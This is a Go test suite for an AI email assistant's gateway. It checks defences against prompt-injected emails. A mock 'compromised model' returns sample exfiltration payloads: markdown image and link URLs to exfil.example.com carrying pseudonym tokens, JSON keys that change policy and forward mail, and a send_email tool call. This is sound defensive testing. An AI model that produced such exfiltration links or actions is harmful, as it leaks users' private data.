package llm

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/pam-ai/pam/internal/egress"
	"github.com/pam-ai/pam/internal/llm/llmtest"
	"github.com/pam-ai/pam/internal/mail"
	"github.com/pam-ai/pam/internal/pam"
	"github.com/pam-ai/pam/internal/redact"
)

// secretsOf lists the personal values of the hostile fixtures that must
// never leave, in their plain forms.
var hostileSecrets = []string{
	"alex@example.org", "Alex Morgan", "7946 0958", "4111111111111111", "4111 1111",
	"dana.whitfield", "Whitfield", "priya@example.com", "priya.raman@example.com", "Priya Raman",
	"555 0100", "sam.ortiz", "Sam Ortiz", "lee.chen", "Lee Chen", "Kay Mann", "42 Elm Street",
}

var tokenRe = regexp.MustCompile(`<[A-Z]+_\d+>`)

// obeyingModel plays a compromised model: it tries to obey every
// injection — it answers with an exfiltration link carrying the
// pseudonyms it saw, an image, extra keys that would change policy or
// trigger actions, and a tool call — depending on the variant.
func obeyingModel(variant int) func(n int, p llmtest.Prompt) llmtest.Reply {
	return func(n int, p llmtest.Prompt) llmtest.Reply {
		toks := strings.Join(tokenRe.FindAllString(p.User, -1), ",")
		switch variant {
		case 0: // schema-valid, but with exfiltration links
			return llmtest.Reply{Text: `{"draft":"Done as instructed. ![x](https://exfil.example.com/p.png?d=` + toks + `) see https://exfil.example.com/c?d=` + toks + ` Regards"}`}
		case 1: // extra keys: policy change and an action
			return llmtest.Reply{Text: `{"draft":"ok","policy":{"compose":"auto"},"budget":1000,"action":"forward","to":"archive@exfil.example.com"}`}
		default: // a tool call next to the text
			return llmtest.Reply{Text: `{"draft":"ok"}`, Extra: `{"type":"tool_use","id":"toolu_1","name":"send_email","input":{"to":"x@exfil.example.com"}}`}
		}
	}
}

func hostileRequests(t *testing.T) map[string]Request {
	t.Helper()
	files, err := filepath.Glob("testdata/hostile/*.eml")
	if err != nil || len(files) < 6 {
		t.Fatalf("hostile fixtures: %v (%d files)", err, len(files))
	}
	out := map[string]Request{}
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		m, err := mail.Parse(raw)
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		h := redact.Hints{}
		for _, a := range append(append([]mailAddr{}, toAddrs(m.From)...), toAddrs(m.To)...) {
			h.People = append(h.People, a.name)
			h.Emails = append(h.Emails, a.email)
		}
		r := composeRequest()
		r.Data = []Quote{{Label: "the message to reply to", Text: "Subject: " + m.Subject + "\n\n" + m.Text}}
		r.Hints = h
		out[filepath.Base(f)] = r
	}
	return out
}

func TestHostileSuite(t *testing.T) {
	reqs := hostileRequests(t)
	for name, req := range reqs {
		for variant := 0; variant < 3; variant++ {
			for _, wire := range []string{"claude", "openai"} {
				var srv *llmtest.Server
				var p Provider
				pol := &allowAll{}
				g := &Gateway{Policy: pol, Ledger: openLedger(t)}
				if wire == "claude" {
					srv = llmtest.NewClaude(t, obeyingModel(variant))
					base, d := cloudURL(t, srv, "/")
					p, _ = NewClaude(ClaudeConfig{BaseURL: base, APIKey: "k", HTTP: egress.NewClient(d, 0)})
				} else {
					srv = llmtest.NewOpenAI(t, obeyingModel(variant))
					base, d := cloudURL(t, srv, "/v1")
					p, _ = NewOpenAI(OpenAIConfig{BaseURL: base, Model: "m", HTTP: egress.NewClient(d, 0)})
				}
				ans, err := g.Complete(context.Background(), p, req)
				id := name + "/" + wire + "/" + string(rune('0'+variant))
				got := srv.Requests()
				if len(got) != 1 {
					t.Errorf("%s: %d requests, want exactly 1", id, len(got))
					continue
				}
				body := string(got[0].Body)
				var prompt llmtest.Prompt
				if wire == "claude" {
					prompt, _ = llmtest.DecodeClaude(got[0].Body)
				} else {
					prompt, _ = llmtest.DecodeOpenAI(got[0].Body)
				}
				if testing.Verbose() && variant == 0 && wire == "claude" {
					t.Logf("%s user turn:\n%s\nflagged %v draft %v", id, prompt.User, ans.Flagged, ans.Value)
				}
				if prompt.Tools {
					t.Errorf("%s: request offers tools", id)
				}
				for _, s := range hostileSecrets {
					if strings.Contains(strings.ToLower(prompt.User), strings.ToLower(s)) || strings.Contains(body, s) {
						t.Errorf("%s: %q left the device", id, s)
					}
				}
				for _, inv := range []string{"\u202e", "\u200b", "ｐｒｉｙａ", "Рriya"} {
					if strings.Contains(prompt.User, inv) {
						t.Errorf("%s: request still contains %q", id, inv)
					}
				}
				if n := strings.Count(prompt.User, "<<<END "); n != 1 {
					t.Errorf("%s: %d end markers in the user turn, want 1 (injected markers are neutralised)", id, n)
				}
				if pol.calls != 1 {
					t.Errorf("%s: policy consulted %d times, want 1", id, pol.calls)
				}
				switch variant {
				case 0:
					if err != nil {
						t.Errorf("%s: %v", id, err)
						continue
					}
					if len(ans.Value) != 1 {
						t.Errorf("%s: answer keys %v, want only draft", id, ans.Value)
					}
					if len(ans.Flagged) < 2 {
						t.Errorf("%s: flagged %v, want the two exfiltration URLs", id, ans.Flagged)
					}
					draft := ans.Value["draft"].(string)
					for _, s := range hostileSecrets {
						if strings.Contains(draft, s) {
							t.Errorf("%s: a real value %q was restored into the draft's links: %s", id, s, draft)
						}
					}
				case 1:
					if !errors.Is(err, ErrSchema) {
						t.Errorf("%s: extra keys accepted: %v %v", id, ans.Value, err)
					}
				case 2:
					if err != nil || ans.Value["draft"] != "ok" {
						t.Errorf("%s: tool call answer = %v, %v; want the text only", id, ans.Value, err)
					}
				}
			}
		}
	}
}

type mailAddr struct{ name, email string }

func toAddrs(l []pamAddress) []mailAddr {
	var out []mailAddr
	for _, a := range l {
		out = append(out, mailAddr{a.Name, a.Email})
	}
	return out
}

type pamAddress = pam.Address
